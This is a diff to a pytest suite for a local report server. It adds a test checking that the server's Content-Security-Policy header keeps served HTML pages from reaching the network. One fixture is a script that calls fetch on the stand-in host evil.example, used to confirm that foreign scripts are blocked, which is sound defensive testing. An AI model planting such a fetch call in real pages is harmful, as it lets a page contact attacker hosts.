@@ -9,7 +9,7 @@ from pathlib import Path
 import pytest
 
 from recipes.errors import InputRefused
-from recipes.reports import live
+from recipes.reports import charts, live
 from recipes.reports.live import serve, server_of
 
 
@@ -71,6 +71,19 @@ def test_a_search_is_served_with_its_trials(write_run, tmp_path):
         assert "final accuracy" in get(port, f"/{trial.name}/")[1]
         moved, _ = get(port, f"/{trial.name}")
         assert (moved.status, moved.getheader("Location")) == (301, f"/{trial.name}/")
+
+
+@pytest.mark.parametrize(("own", "may_ask", "runs"), [(True, True, "'sha256-"), (False, False, "'unsafe-inline'")])
+def test_a_page_that_lies_in_a_folder_cannot_reach_the_network(tmp_path, own, may_ask, runs):
+    script = charts.script() if own else "fetch('http://evil.example')"
+    (tmp_path / "report.html").write_text(f"<script>{script}</script>")
+    with serving(tmp_path) as port:
+        answer, _ = get(port)
+    rules = dict(rule.split(" ", 1) for rule in answer.getheader("Content-Security-Policy").split("; "))
+    assert (rules["default-src"], rules["img-src"], rules["style-src"]) == ("'none'", "data:", "'unsafe-inline'")
+    assert rules.get("connect-src") == ("'self'" if may_ask else None)
+    assert rules["script-src"].startswith(runs)
+    assert answer.getheader("X-Content-Type-Options") == "nosniff"
 
 
 def test_a_folder_of_runs_lists_them(write_run, tmp_path):
